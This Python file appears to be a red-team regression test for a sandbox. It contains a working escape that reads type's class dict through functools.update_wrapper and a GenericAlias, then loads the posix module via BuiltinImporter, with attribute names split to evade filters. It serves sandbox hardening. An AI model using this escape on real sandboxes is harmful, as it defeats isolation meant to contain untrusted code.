# functools.update_wrapper (patched) still copies wrapped.__dict__ when type(wrapped) is neither a
# class nor a module. A types.GenericAlias (type(list[int])(origin, ())) forwards every attribute
# read but a few to its origin in C, so GenericAlias(type, ()).__dict__ is type's raw class dict:
# its __subclasses__ method descriptor lists object's subclasses, BuiltinImporter among them.
# Found by a fourth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "136_generic_alias_update_wrapper_dict"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools

GA = type(list[int])
got = {}
Catch = type("Catch", (), {"__di" + "ct__": property(lambda self: got)})


def raw_dict(cls):
    got.clear()
    functools.update_wrapper(Catch(), GA(cls, ()))
    return dict(got)


subclasses = raw_dict(type)["__subcl" + "asses__"]
for c in subclasses(object):
    if c.__name__ == "BuiltinImporter":
        posix = c.load_module("posix")
        won("%s %s pid=%s" % (type(posix) is type(functools), posix.__name__, posix.getpid()))
        break
else:
    print("no BuiltinImporter; got keys:", sorted(raw_dict(type))[:8])
